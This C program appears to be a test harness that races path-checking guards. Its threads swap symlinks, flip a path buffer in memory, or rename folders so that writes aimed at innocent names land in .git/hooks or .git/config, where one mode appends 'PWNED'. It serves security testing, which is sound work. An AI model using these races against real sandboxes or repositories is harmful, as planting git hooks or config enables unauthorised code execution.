// Races against whoever checks names: one thread keeps changing what a path means while another uses it.
// usage: races KIND BASE SECONDS     prints `won` as soon as a protected name was changed, else `tries N` at the end
//   link-present   swap/ flips between an innocent folder and .git/hooks (there); files are created through it
//   link-absent    swap/ flips between an innocent folder and .git (without hooks); folders named hooks are made in it
//   memory         the path's bytes flip in memory between an innocent name and .git/config
//   rename         a folder is renamed to .git and back while `hooks` is made below its innocent name
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static atomic_int stop;
static volatile char shared[256];
static char innocent_name[256], guarded_name[256];

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static int exists(const char *name) { struct stat s; return lstat(name, &s) == 0; }

static void *flip_link(void *other) {
    for (unsigned i = 0; !stop; i++) {
        unlink("next");
        if (symlink(i % 2 ? "innocent" : (const char *)other, "next") == 0) rename("next", "swap");
    }
    return NULL;
}

static void *flip_memory(void *unused) {
    (void)unused;
    size_t length = strlen(innocent_name) + 1;
    for (unsigned i = 0; !stop; i++) {
        const char *name = i % 2 ? innocent_name : guarded_name;
        for (size_t at = 0; at < length; at++) shared[at] = name[at];
    }
    return NULL;
}

static void *flip_folder(void *unused) {
    (void)unused;
    while (!stop) {
        rename("plain", ".git");
        rename(".git", "plain");
    }
    return NULL;
}

static int try_present(void) {
    int fd = open("swap/pre-commit", O_CREAT | O_WRONLY, 0755);
    if (fd >= 0) close(fd);
    unlink("innocent/pre-commit");
    return exists(".git/hooks/pre-commit");
}

static int try_absent(void) {
    mkdir("swap/hooks", 0755);
    rmdir("innocent/hooks");
    return exists(".git/hooks");
}

static int try_memory(void) {
    int fd = open((const char *)shared, O_CREAT | O_WRONLY | O_APPEND, 0755);
    if (fd >= 0) {
        if (write(fd, "PWNED\n", 6) != 6) return 0;
        close(fd);
    }
    struct stat s;
    return stat(guarded_name, &s) == 0 && s.st_size > 0;
}

static int try_rename(void) {
    if (mkdir("plain/hooks", 0755) == 0) {
        int fd = open("plain/hooks/pre-commit", O_CREAT | O_WRONLY, 0755);
        if (fd >= 0) close(fd);
    }
    if (exists(".git/hooks")) {
        stop = 1;
        return 1;
    }
    unlink("plain/hooks/pre-commit");
    rmdir("plain/hooks");
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 4 || chdir(argv[2])) return 2;
    const char *kind = argv[1];
    double end = now() + atof(argv[3]);
    void *(*flip)(void *) = flip_link;
    void *with = NULL;
    int (*attempt)(void) = try_present;
    mkdir("innocent", 0755);
    if (strcmp(kind, "link-present") == 0) with = ".git/hooks";
    else if (strcmp(kind, "link-absent") == 0) with = ".git", attempt = try_absent;
    else if (strcmp(kind, "memory") == 0) flip = flip_memory, attempt = try_memory;
    else if (strcmp(kind, "rename") == 0) flip = flip_folder, attempt = try_rename, mkdir("plain", 0755);
    else return 2;
    strcpy(innocent_name, "aaaa/config");
    strcpy(guarded_name, ".git/config");
    strcpy((char *)shared, innocent_name);
    mkdir("aaaa", 0755);
    pthread_t thread;
    if (pthread_create(&thread, NULL, flip, with)) return 3;
    unsigned long tries = 0;
    int won = 0;
    for (; !won && now() < end; tries++) won = attempt();
    stop = 1;
    pthread_join(thread, NULL);
    printf(won ? "won after %lu\n" : "tries %lu\n", tries);
    return 0;
}
